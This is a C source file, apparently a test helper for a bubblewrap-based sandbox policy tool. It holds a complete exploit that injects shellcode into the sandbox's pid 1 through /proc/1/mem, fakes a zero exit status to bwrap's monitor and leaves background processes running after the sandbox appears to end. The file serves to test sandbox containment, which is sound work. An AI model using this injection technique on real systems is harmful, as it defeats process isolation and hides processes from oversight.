/*
 * pid1takeover: the attack of S11's test. Run inside a bwpolicy sandbox
 * (x86_64), it takes over the sandbox's pid 1 (bwrap's init, same uid,
 * dumpable): it reads where pid 1 is blocked in wait4 from /proc/1/syscall
 * and writes code there through /proc/1/mem. When the command exits and
 * that wait4 returns, pid 1 runs the code: it clears its parent-death
 * signal (PR_SET_PDEATHSIG, 0), writes "the command exited 0" to the
 * eventfd bwrap's monitor waits on (found in /proc/1/fd), so that bwrap
 * exits 0 at once, and keeps reaping orphans for ever. Background
 * processes of the command then outlive bwrap, unless the runtime kills
 * the sandbox's pid namespace itself.
 *
 * Prints "takeover: ok" on success, "takeover: FAIL <why>" otherwise.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

extern unsigned char sc_start[], sc_end[];
__asm__(
    ".text\n"
    ".globl sc_start\n"
    "sc_start:\n"
    "  mov $157, %eax\n" /* prctl(PR_SET_PDEATHSIG, 0) */
    "  mov $1, %edi\n"
    "  xor %esi, %esi\n"
    "  syscall\n"
    "  push $1\n" /* eventfd value: exit status 0, plus 1 */
    "  mov %rsp, %rsi\n"
    "  mov $0x7eadbeef, %edi\n" /* patched: the eventfd's number */
    "  mov $8, %edx\n"
    "  mov $1, %eax\n" /* write */
    "  syscall\n"
    "1:\n"
    "  mov $61, %eax\n" /* wait4(-1, NULL, 0, NULL) */
    "  mov $-1, %edi\n"
    "  xor %esi, %esi\n"
    "  xor %edx, %edx\n"
    "  xor %r10d, %r10d\n"
    "  syscall\n"
    "  cmp $-10, %rax\n" /* -ECHILD: nothing to reap, wait for a signal */
    "  jne 1b\n"
    "  mov $34, %eax\n" /* pause */
    "  syscall\n"
    "  jmp 1b\n"
    ".globl sc_end\n"
    "sc_end:\n");

static void fail(const char *why) {
	printf("takeover: FAIL %s: %s\n", why, strerror(errno));
	exit(1);
}

static int find_eventfd(void) {
	DIR *d = opendir("/proc/1/fd");
	struct dirent *e;
	char path[300], target[128];
	if (!d)
		fail("opendir /proc/1/fd");
	while ((e = readdir(d)) != NULL) {
		ssize_t n;
		snprintf(path, sizeof path, "/proc/1/fd/%s", e->d_name);
		n = readlink(path, target, sizeof target - 1);
		if (n <= 0)
			continue;
		target[n] = 0;
		if (strcmp(target, "anon_inode:[eventfd]") == 0) {
			closedir(d);
			return atoi(e->d_name);
		}
	}
	closedir(d);
	errno = ENOENT;
	fail("no eventfd in /proc/1/fd");
	return -1;
}

int main(void) {
	char buf[512], *last;
	unsigned long pc;
	unsigned char code[256];
	size_t len = (size_t)(sc_end - sc_start), i;
	int fd, n, efd = find_eventfd(), patched = 0;

	fd = open("/proc/1/syscall", O_RDONLY);
	if (fd < 0)
		fail("open /proc/1/syscall");
	n = read(fd, buf, sizeof buf - 1);
	if (n <= 0)
		fail("read /proc/1/syscall");
	buf[n] = 0;
	close(fd);
	if (strncmp(buf, "61 ", 3) != 0) {
		errno = EINVAL;
		printf("takeover: /proc/1/syscall: %s", buf);
		fail("pid 1 is not blocked in wait4");
	}
	last = strrchr(buf, ' ');
	pc = strtoul(last + 1, NULL, 16);

	if (len > sizeof code) {
		errno = E2BIG;
		fail("code");
	}
	memcpy(code, sc_start, len);
	for (i = 0; i + 4 <= len; i++) {
		unsigned int v;
		memcpy(&v, code + i, 4);
		if (v == 0x7eadbeef) {
			v = (unsigned int)efd;
			memcpy(code + i, &v, 4);
			patched = 1;
			break;
		}
	}
	if (!patched) {
		errno = EINVAL;
		fail("patching the eventfd");
	}
	fd = open("/proc/1/mem", O_RDWR);
	if (fd < 0)
		fail("open /proc/1/mem read-write");
	if (pwrite(fd, code, len, (off_t)pc) != (ssize_t)len)
		fail("write /proc/1/mem");
	close(fd);
	printf("takeover: ok (eventfd %d, %zu bytes at %#lx)\n", efd, len, pc);
	return 0;
}
